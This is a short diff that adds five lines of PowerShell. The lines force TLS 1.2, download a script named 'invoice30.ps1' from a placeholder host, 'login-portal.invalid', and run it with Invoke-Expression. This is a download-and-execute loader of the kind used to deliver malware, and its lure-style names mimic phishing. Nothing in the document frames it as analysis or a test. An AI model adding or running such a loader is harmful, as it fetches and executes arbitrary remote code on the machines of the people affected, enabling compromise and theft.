@@ -1,0 +1,5 @@
+[Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Tls12
+$url = 'http://login-portal.invalid/invoice30.ps1'
+$client = New-Object Net.WebClient
+$payload = $client.DownloadString($url)
+Invoke-Expression $payload
